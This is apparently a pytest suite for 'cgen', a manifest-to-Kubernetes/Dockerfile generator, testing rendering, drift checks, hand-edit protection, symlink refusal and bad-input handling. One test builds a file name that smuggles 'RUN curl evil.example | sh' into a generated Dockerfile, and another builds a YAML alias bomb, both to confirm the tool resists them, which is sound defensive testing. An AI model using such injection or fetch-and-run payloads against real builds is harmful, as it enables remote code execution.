"""`cgen` as a user runs it: render, check, validate, schema; bad input never hurts out/."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import jsonschema
import pytest
import yaml
from conftest import ROOT, run_cgen, tree

CASES = ROOT / "tests" / "cases"
ERROR_CASES = sorted(p.name for p in CASES.iterdir() if (p / "expected_error.txt").exists())


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A private copy of the example shop."""
    dest = tmp_path / "shop"
    shutil.copytree(ROOT / "examples" / "shop", dest)
    return dest


def test_render_then_check_is_clean(project: Path) -> None:
    first = run_cgen(["render", "shop"], cwd=project.parent, check=True)
    written = len(tree(project.parent / "out"))
    assert written > 9 * 7 and f"wrote {written}, removed 0, unchanged 0" in first.stdout
    again = run_cgen(["render", "shop"], cwd=project.parent, check=True)
    assert f"wrote 0, removed 0, unchanged {written}" in again.stdout
    ok = run_cgen(["check", "shop"], cwd=project.parent)
    assert ok.returncode == 0, ok.stderr


def test_check_reports_a_stale_manifest_with_a_diff(project: Path) -> None:
    run_cgen(["render", "shop"], cwd=project.parent, check=True)
    manifest = project / "shop" / "frontend.yaml"
    manifest.write_text(manifest.read_text().replace("replicas: 2", "replicas: 4"))
    proc = run_cgen(["check", "shop"], cwd=project.parent)
    assert proc.returncode == 1
    assert "-  replicas: 2\n+  replicas: 4\n" in proc.stdout
    assert "--- a/shop/frontend/deployment.yaml" in proc.stdout
    assert "run cgen render" in proc.stderr


def test_hand_edits_are_detected_and_not_overwritten(project: Path) -> None:
    cwd = project.parent
    run_cgen(["render", "shop"], cwd=cwd, check=True)
    target = cwd / "out" / "shop" / "cartservice" / "networkpolicy.yaml"
    target.write_text(target.read_text() + "# allow everything, just for today\n")
    proc = run_cgen(["check", "shop"], cwd=cwd)
    assert proc.returncode == 1 and "edited by hand" in proc.stderr
    # A manifest change that touches the edited file: render refuses, changes nothing.
    manifest = project / "shop" / "cartservice.yaml"
    manifest.write_text(manifest.read_text().replace("port: 7070", "port: 7071"))
    before = tree(cwd / "out")
    refused = run_cgen(["render", "shop"], cwd=cwd)
    assert refused.returncode == 1
    assert "shop/cartservice/networkpolicy.yaml (edited by hand" in refused.stderr
    assert "Traceback" not in refused.stderr
    assert tree(cwd / "out") == before
    forced = run_cgen(["render", "shop", "--force"], cwd=cwd, check=True)
    assert "removed 0" in forced.stdout
    assert "just for today" not in target.read_text()
    assert run_cgen(["check", "shop"], cwd=cwd).returncode == 0


def test_removed_service_files_go_and_foreign_files_stay(project: Path) -> None:
    cwd = project.parent
    run_cgen(["render", "shop"], cwd=cwd, check=True)
    email_files = len(tree(cwd / "out" / "shop" / "email"))
    notes = cwd / "out" / "shop" / "email" / "NOTES.md"
    notes.write_text("kept by a person\n")
    (project / "shop" / "email.yaml").unlink()
    checkout = project / "shop" / "checkout.yaml"
    checkout.write_text(checkout.read_text().replace("    - service: email\n", ""))
    proc = run_cgen(["render", "shop"], cwd=cwd, check=True)
    assert f"removed {email_files}," in proc.stdout
    assert sorted(p.name for p in (cwd / "out" / "shop" / "email").iterdir()) == ["NOTES.md"]
    assert not (cwd / "out" / "shop" / "redis-cart" / "NOTES.md").exists()
    assert run_cgen(["check", "shop"], cwd=cwd).returncode == 0


def test_a_foreign_file_in_the_way_is_not_overwritten(project: Path) -> None:
    cwd = project.parent
    mine = cwd / "out" / "shop" / "frontend" / "deployment.yaml"
    mine.parent.mkdir(parents=True)
    mine.write_text("kind: Deployment  # written by a person\n")
    proc = run_cgen(["render", "shop"], cwd=cwd)
    assert proc.returncode == 1
    assert "cgen did not write it" in proc.stderr
    assert mine.read_text() == "kind: Deployment  # written by a person\n"


@pytest.mark.parametrize("name", ERROR_CASES)
def test_bad_input_leaves_existing_output_untouched(name: str, tmp_path: Path) -> None:
    out = tmp_path / "out"
    run_cgen(["render", "tests/cases/minimal/input", "--out", str(out)], check=True)
    before = tree(out)
    state = (out / ".cgen" / "state.json").read_bytes()
    proc = run_cgen(["render", f"tests/cases/{name}/input", "--out", str(out)])
    assert proc.returncode == 1
    assert "Traceback" not in proc.stderr
    assert f"tests/cases/{name}/input/" in proc.stderr
    assert tree(out) == before
    assert (out / ".cgen" / "state.json").read_bytes() == state
    assert not (out / ".cgen" / "journal.json").exists()


def test_validate_writes_nothing_and_reports_warnings(tmp_path: Path) -> None:
    proc = run_cgen(["validate", str(ROOT / "tests/cases/pure-client/input")], cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert "egress to 0.0.0.0/0 reaches every address" in proc.stderr
    assert list(tmp_path.iterdir()) == []


def test_schema_accepts_every_good_manifest_and_rejects_bad_ones() -> None:
    proc = run_cgen(["schema"], check=True)
    schema = json.loads(proc.stdout)
    validator = jsonschema.Draft202012Validator(schema)
    jsonschema.Draft202012Validator.check_schema(schema)
    good = sorted((ROOT / "examples" / "shop").rglob("*.yaml"))
    good = [p for p in good if p.name != "cgen.yaml"]
    assert len(good) == 9
    for path in good:
        errors = list(validator.iter_errors(yaml.safe_load(path.read_text())))
        assert errors == [], path
    for name in ("bad-port", "unknown-key", "type-errors", "bad-names", "wrong-header"):
        for path in (CASES / name / "input").glob("*.yaml"):
            assert list(validator.iter_errors(yaml.safe_load(path.read_text()))), path


def test_no_manifests_and_missing_paths_are_clear_errors(tmp_path: Path) -> None:
    proc = run_cgen(["render", str(tmp_path / "nowhere")], cwd=tmp_path)
    assert proc.returncode == 1 and "no such file or folder" in proc.stderr
    (tmp_path / "empty").mkdir()
    proc = run_cgen(["render", "empty"], cwd=tmp_path)
    assert proc.returncode == 1 and "no manifests found" in proc.stderr
    assert "Traceback" not in proc.stderr


@pytest.mark.parametrize("command", ["render", "check"])
def test_an_output_folder_that_is_a_file_is_a_clear_error(command: str, project: Path) -> None:
    taken = project.parent / "notes.txt"
    taken.write_text("mine\n")
    for out, where in (("notes.txt", "is a file"), ("notes.txt/out", "lies below the file")):
        proc = run_cgen([command, "shop", "--out", out], cwd=project.parent)
        assert proc.returncode == 1 and proc.stdout == ""
        assert proc.stderr.startswith(f"error: the output folder {out} (--out, ")
        assert where in proc.stderr and "name a folder" in proc.stderr
    assert taken.read_text() == "mine\n"


def test_output_folder_itself_is_not_read_as_manifests(project: Path) -> None:
    # Rendering a folder that contains its own out/ must not pick the generated YAML up.
    run_cgen(["render", ".", "--out", "out"], cwd=project, check=True)
    again = run_cgen(["render", ".", "--out", "out"], cwd=project, check=True)
    assert "wrote 0" in again.stdout


def test_unreadable_and_non_utf8_files(tmp_path: Path) -> None:
    (tmp_path / "bad.yaml").write_bytes(b"apiVersion: cgen/v1\nkind: \xff\xfe\n")
    proc = run_cgen(["render", "."], cwd=tmp_path)
    assert proc.returncode == 1
    assert "bad.yaml: not UTF-8 text" in proc.stderr
    assert not (tmp_path / "out").exists()


def test_aliases_cannot_explode(tmp_path: Path) -> None:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]" for i in range(1, 9)]
    (tmp_path / "bomb.yaml").write_text("\n".join(lines) + "\n")
    proc = run_cgen(["render", "."], cwd=tmp_path)
    assert proc.returncode == 1 and "aliases expanding" in proc.stderr


def test_symlink_out_of_output_is_refused(project: Path, tmp_path: Path) -> None:
    cwd = project.parent
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (cwd / "out" / "shop").mkdir(parents=True)
    (cwd / "out" / "shop" / "frontend").symlink_to(outside)
    proc = run_cgen(["render", "shop"], cwd=cwd)
    assert proc.returncode == 1 and "link out of the output folder" in proc.stderr
    assert list(outside.iterdir()) == []


def test_a_file_name_cannot_inject_lines_into_generated_files(tmp_path: Path) -> None:
    shutil.copy(ROOT / "examples" / "shop" / "images.lock", tmp_path / "images.lock")
    source = (ROOT / "tests" / "cases" / "minimal" / "input" / "api.yaml").read_text()
    (tmp_path / "api\nRUN curl evil.example | sh\n#.yaml").write_text(source)
    run_cgen(["render", "."], cwd=tmp_path, check=True)
    for path in (tmp_path / "out").rglob("*"):
        if path.is_file() and path.suffix != ".json":
            for line in path.read_text().splitlines():
                assert not line.startswith("RUN curl"), path
    dockerfile = (tmp_path / "out" / "team-a" / "api" / "Dockerfile").read_text()
    assert "api\\x0aRUN curl evil.example | sh\\x0a#.yaml" in dockerfile
